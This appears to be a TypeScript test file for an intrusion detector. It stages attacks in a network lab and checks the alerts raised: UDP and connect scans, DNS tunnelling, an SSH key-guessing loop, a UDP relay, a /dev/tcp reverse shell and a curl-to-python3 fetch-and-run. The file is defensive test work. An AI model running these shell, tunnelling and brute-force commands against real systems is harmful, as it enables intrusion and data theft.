// Variants of the issue-11 classes staged nowhere else: UDP scans both ways, DNS streams through a
// local stub resolver at 127.0.0.53, a loop of separate ssh clients guessing keys, a UDP relay, a paced connect scan, a shell fed by cat from a socket, and
// curl piped into python3. Each is detected from behaviour, never from its command line.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Alert } from '../../src-shared/model';
import { TUNNEL_ZONE } from './agents';
import { ADDR, NS, delay, type Lab, type LabProcess } from './lab';
import { isEndpoint, mentions, stopping } from './scenario-kit';
import type { Scenario } from './scenarios';
import { extListeners, startSshServer, waitForSocket } from './scenario-kit-net';

const STUB = '127.0.0.53';

const outbound = (alert: Alert): boolean => alert.evidence.direction === 'outbound';
const targetHosts = (alert: Alert): string[] => (Array.isArray(alert.evidence.targetHosts) ? (alert.evidence.targetHosts as string[]) : []);

/** A stub resolver on 127.0.0.53:53 in the victim that answers every query NXDOMAIN at once. */
function stubResolver(lab: Lab): LabProcess {
  return lab.run(NS.victim, [
    'python3',
    '-c',
    [
      'import socket',
      's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
      `s.bind(("${STUB}", 53))`,
      'while True:',
      '    d, a = s.recvfrom(512)',
      '    if len(d) >= 12: s.sendto(d[:2] + b"\\x81\\x83" + d[4:6] + bytes(6) + d[12:], a)',
    ].join('\n'),
  ]);
}

/** Fresh UDP socket per query to the stub, ~25 queries/s of 50-character random labels. */
const STUB_ONE_SHOT = String.raw`
import random, socket, string, struct, time
end = time.time() + 90
qid = 0
while time.time() < end:
    qid = (qid + 1) & 0xffff
    label = ''.join(random.choice(string.ascii_lowercase + '234567') for _ in range(50))
    qname = b''.join(bytes([len(p)]) + p.encode() for p in (label + '.${TUNNEL_ZONE}').split('.')) + b'\0'
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.sendto(struct.pack('>HHHHHH', qid, 0x0100, 1, 0, 0, 0) + qname + struct.pack('>HH', 16, 1), ('${STUB}', 53))
    try:
        s.recv(512)
    except OSError:
        pass
    s.close()
    time.sleep(0.03)
`;

/** An HTTP server that sends a python script's first lines, then holds the download open. */
function pythonScriptServer(lab: Lab, port: number): LabProcess {
  const reply = join(lab.tmp, 'script-reply.http');
  writeFileSync(reply, 'HTTP/1.0 200 OK\r\nContent-Type: text/x-python\r\n\r\nimport time\nprint("stage 1")\ntime.sleep(1)\n');
  return lab.run(NS.ext, ['socat', `TCP-LISTEN:${port},bind=${ADDR.web[1]},reuseaddr,fork`, `SYSTEM:cat ${reply}; sleep 40`]);
}

export const GAP_VARIANT_SCENARIOS: Scenario[] = [
  {
    id: 'udp-scan-in',
    title: `nmap -sU -p 1-400 from ${ADDR.attacker} against this host (closed UDP ports: port-unreachables, rate-limited)`,
    expected: 'T1046',
    // Probes of closed UDP ports past the ICMP rate limit leave no socket and no reply: the source is
    // named when this host answered it, and otherwise left out, never guessed.
    mustName: `inbound, source ${ADDR.attacker} or no source`,
    needs: ['nmap'],
    windowMs: 30_000,
    async stage(lab) {
      const scan = lab.run(NS.attacker, ['nmap', '-sU', '-Pn', '-n', '-T4', '--max-retries', '1', '-p', '1-400', ADDR.victim]);
      return {
        names: (alert) => !outbound(alert) && (alert.source === undefined ? !mentions(alert, 'Likely source') : isEndpoint(alert.source, ADDR.attacker)),
        stop: stopping(scan),
      };
    },
  },
  {
    id: 'udp-scan-out',
    title: `this host runs nmap -sU -p 1-400 against ${ADDR.srv[1]}`,
    expected: 'T1046',
    // The probes leave through nmap's own packet socket: the target is named when a neighbour entry shows it.
    mustName: `direction outbound, nmap (target ${ADDR.srv[1]} when seen); never an inbound scan from the target`,
    // nmap -sU as root reads the replies through a capture socket of its own: T1040 describes that truly.
    alsoTrue: ['T1040'],
    needs: ['nmap'],
    windowMs: 30_000,
    async stage(lab) {
      const scan = lab.run(NS.victim, ['nmap', '-sU', '-Pn', '-n', '-T4', '--max-retries', '1', '-p', '1-400', ADDR.srv[1]]);
      return {
        names: (alert) => outbound(alert) && alert.process?.name === 'nmap' && targetHosts(alert).every((ip) => ip === ADDR.srv[1]),
        stop: stopping(scan),
      };
    },
    checkFinal: (alerts) => {
      const wrong = alerts.find((a) => a.techniqueId === 'T1046' && a.source?.address === ADDR.srv[1]);
      return wrong ? `${wrong.title} blames the scan's target` : undefined;
    },
  },
  {
    id: 'dns-stub-dig-loop',
    title: `a shell loop of dig @${STUB} for random names (a local stub resolver, not the configured one)`,
    expected: 'T1071.004',
    mustName: `the loop or dig, the stub ${STUB} and the rate`,
    needs: ['dig', 'python3'],
    windowMs: 25_000,
    async stage(lab) {
      const stub = stubResolver(lab);
      await waitForSocket(lab, NS.victim, ['-lun'], `${STUB}:53`);
      const loop = lab.run(NS.victim, [
        'bash',
        '-c',
        `while :; do dig @${STUB} +tries=1 +time=1 +short TXT $(head -c 25 /dev/urandom | base32 | tr -d = | tr A-Z a-z).${TUNNEL_ZONE} > /dev/null; done`,
      ]);
      return {
        names: (alert) => (alert.process?.pid === loop.pid || alert.process?.name === 'dig' || alert.process?.name === 'bash') && mentions(alert, STUB),
        stop: stopping(loop, stub),
      };
    },
  },
  {
    id: 'dns-stub-one-shot-python',
    title: `python3 sends ~25 queries/s to the stub ${STUB}, a fresh UDP socket each`,
    expected: 'T1071.004',
    mustName: `python3, the stub ${STUB} and the rate`,
    needs: ['python3'],
    knownGap:
      'each query is one sendto() on an unconnected socket that lives ~1 ms: sampling /proc every tick sees it ~2.6 % of the time (measured), and the stub is local so no kernel counter outside loopback moves; needs exec/socket events (eBPF, audit). The dig loop to the same stub is caught',
    windowMs: 25_000,
    async stage(lab) {
      const stub = stubResolver(lab);
      await waitForSocket(lab, NS.victim, ['-lun'], `${STUB}:53`);
      const client = lab.run(NS.victim, ['python3', '-c', STUB_ONE_SHOT]);
      return { names: (alert) => alert.process?.pid === client.pid && mentions(alert, STUB), stop: stopping(client, stub) };
    },
  },
  {
    id: 'ssh-guess-loop-out',
    title: `a shell loop starting one ssh client per attempt with keys the OpenSSH server at ${ADDR.ext}:2222 refuses`,
    expected: 'T1110',
    mustName: `ssh (or the loop), ${ADDR.ext}`,
    needs: ['ssh', 'ssh-keygen', '/usr/sbin/sshd'],
    windowMs: 40_000,
    async stage(lab) {
      const { server } = await startSshServer(lab);
      const dir = mkdtempSync(join(lab.tmp, 'stranger-'));
      execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', join(dir, 'key')]);
      const opts = `-o BatchMode=yes -o ConnectTimeout=3 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o IdentitiesOnly=yes -i ${join(dir, 'key')}`;
      const loop = lab.run(NS.victim, [
        'bash',
        '-c',
        `for u in root admin ubuntu deploy git oracle test user; do for i in $(seq 12); do ssh ${opts} -p 2222 $u@${ADDR.ext} true 2>/dev/null; done; done`,
      ]);
      return {
        names: (alert) => (alert.process?.name === 'ssh' || alert.process?.pid === loop.pid || alert.process?.name === 'bash') && mentions(alert, ADDR.ext),
        stop: stopping(loop, server),
      };
    },
  },
  {
    id: 'tunnel-socat-udp-relay',
    title: `socat UDP4-LISTEN:5300,fork UDP4:${ADDR.ext}:5353 relaying a datagram stream from ${ADDR.attacker}`,
    expected: 'T1090',
    mustName: `socat, ${ADDR.attacker} and ${ADDR.ext}:5353`,
    alsoTrue: ['T1571'],
    needs: ['socat', 'python3'],
    windowMs: 15_000,
    async stage(lab) {
      const sink = lab.run(NS.ext, ['socat', '-u', `UDP4-RECV:5353,bind=${ADDR.ext}`, '/dev/null']);
      const relay = lab.run(NS.victim, ['socat', `UDP4-LISTEN:5300,bind=${ADDR.victim},fork,reuseaddr`, `UDP4:${ADDR.ext}:5353`]);
      await waitForSocket(lab, NS.victim, ['-lun'], `${ADDR.victim}:5300`);
      const client = lab.run(NS.attacker, [
        'python3',
        '-c',
        `import socket, time\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor i in range(400):\n    s.sendto(b"chunk %d" % i, ("${ADDR.victim}", 5300)); time.sleep(0.25)`,
      ]);
      return {
        names: (alert) => alert.techniqueId === 'T1090' && mentions(alert, `${ADDR.ext}:5353`) && mentions(alert, ADDR.attacker),
        stop: stopping(client, relay, sink),
      };
    },
  },
  {
    id: 'outbound-paced-connect-scan',
    title: `nmap -sT --scan-delay 2s over ports 20-80 of ${ADDR.srv[2]} (open and closed ports; one probe every 2 s)`,
    expected: 'T1046',
    mustName: `direction outbound, target ${ADDR.srv[2]}`,
    needs: ['nmap'],
    windowMs: 70_000,
    stage: async (lab) => {
      const scan = lab.run(NS.victim, ['nmap', '-sT', '-Pn', '-n', '--scan-delay', '2s', '--max-retries', '0', '-p', '20-80', ADDR.srv[2]]);
      return {
        names: (alert) => outbound(alert) && (targetHosts(alert).includes(ADDR.srv[2]) || alert.destination?.address === ADDR.srv[2]),
        stop: stopping(scan),
      };
    },
  },
  {
    id: 'shell-cat-socket-pipe',
    title: `exec 5<>/dev/tcp/${ADDR.ext}/8444; cat <&5 | bash >&5 2>&5 (bash reads a pipe fed by cat from the socket)`,
    expected: 'T1059.004',
    mustName: `bash, ${ADDR.ext}:8444`,
    alsoTrue: ['T1059', 'T1571'],
    windowMs: 12_000,
    async stage(lab) {
      const listener = await extListeners(lab, ['8444=shell']);
      const shell = lab.run(NS.victim, ['bash', '-c', `exec 5<>/dev/tcp/${ADDR.ext}/8444; cat <&5 | bash >&5 2>&5`]);
      return {
        names: (alert) => alert.process?.name === 'bash' && mentions(alert, `${ADDR.ext}`) && mentions(alert, '8444'),
        stop: stopping(shell, listener),
      };
    },
  },
  {
    id: 'curl-pipe-python3',
    title: `curl -s http://${ADDR.web[1]}:8001/stage.py | python3 (slow download)`,
    expected: 'T1059.004',
    mustName: `python3 fed by curl from ${ADDR.web[1]}:8001`,
    alsoTrue: ['T1059', 'T1571'],
    needs: ['curl', 'socat', 'python3'],
    windowMs: 12_000,
    async stage(lab) {
      const server = pythonScriptServer(lab, 8001);
      await delay(300);
      const victim = lab.run(NS.victim, ['bash', '-c', `curl -s http://${ADDR.web[1]}:8001/stage.py | python3`]);
      return {
        names: (alert) => alert.process?.name === 'python3' && mentions(alert, ADDR.web[1]) && mentions(alert, 'curl'),
        stop: stopping(victim, server),
      };
    },
  },
];
